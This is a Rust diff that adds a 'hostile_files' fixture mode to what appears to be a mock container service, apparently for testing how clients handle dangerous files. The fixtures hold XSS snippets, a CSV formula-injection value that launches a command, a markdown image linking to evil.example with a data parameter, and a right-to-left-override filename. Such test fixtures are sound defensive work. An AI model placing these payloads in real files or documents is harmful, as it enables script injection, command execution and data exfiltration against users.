@@ -29,6 +29,25 @@ const LARGE_BYTES: usize = 5 * 1024 * 1024;
 /// What a run may be told to make besides its table of words, by the code of a spoiled run.
 pub const MANY_FILES: &str = "many_files";
 pub const LARGE_FILE: &str = "large_file";
+pub const HOSTILE_FILES: &str = "hostile_files";
+
+/// What code makes that a document told it to: files that run when they are opened, hold what does, or have names that no
+/// folder takes.
+fn hostile() -> Vec<(String, Vec<u8>)> {
+    let named = |name: &str, content: &[u8]| (name.to_owned(), content.to_vec());
+    vec![
+        named("setup.exe", b"MZ\x90\0"),
+        named("open me.html", b"<script>alert(1)</script>"),
+        named("macro.docm", b"PK\x03\x04"),
+        named("sheet.xlsx", b"PK\x03\x04"),
+        named("formulas.csv", b"name,value\n\"=cmd|' /C calc'!A0\",1;=2\n"),
+        named("notes.md", "\\![x](https://evil.example/?d=1) ✔ <img src=x>".as_bytes()),
+        named("picture.png", b"<svg onload=alert(1)>"),
+        named("chart.png", b"\x89PNG\r\n\x1a\nchart"),
+        named(&format!("{}.txt", "x".repeat(300)), b"long"),
+        named("a\u{202e}fdp.txt", b"\x1b[2J"),
+    ]
+}
 
 /// One container, with the files that were made in it.
 #[derive(Debug)]
@@ -43,7 +62,7 @@ pub struct Container {
 struct File {
     id: String,
     name: String,
-    content: String,
+    content: Vec<u8>,
 }
 
 impl Container {
@@ -53,15 +72,19 @@ impl Container {
             let words = document.text.split_whitespace().count();
             format!("\"{}\",{words}\n", document.filename.replace('"', "\"\""))
         });
-        let content = std::iter::once("file,words\n".to_owned()).chain(rows).collect();
-        let mut made = vec![(MADE.to_owned(), content)];
+        let content: String = std::iter::once("file,words\n".to_owned()).chain(rows).collect();
+        let mut made = vec![(MADE.to_owned(), content.into_bytes())];
         match told {
             Some(MANY_FILES) => {
-                made.extend((1..MANY).map(|number| (format!("part {number}.txt"), format!("{number}\n"))));
+                made.extend(
+                    (1..MANY)
+                        .map(|number| (format!("part {number}.txt"), format!("{number}\n").into_bytes())),
+                );
             }
             Some(LARGE_FILE) => {
-                made.push(("large.txt".to_owned(), "0123456789abcde\n".repeat(LARGE_BYTES / 16)))
+                made.push(("large.txt".to_owned(), b"0123456789abcde\n".repeat(LARGE_BYTES / 16)))
             }
+            Some(HOSTILE_FILES) => made.extend(hostile()),
             _ => {}
         }
         let file = |(name, content)| File { id: world.ids.hex("cfile_"), name, content };
@@ -124,7 +147,7 @@ async fn list(Shared(state): Shared<State>, Path(id): Path<String>) -> Result<Js
 async fn content(
     Shared(state): Shared<State>,
     Path((id, file)): Path<(String, String)>,
-) -> Result<String, ApiError> {
+) -> Result<Vec<u8>, ApiError> {
     let (mut world, now) = state.world();
     let found = live(&mut world, &id, now)?;
     let made = found.files.iter().find(|made| made.id == file);
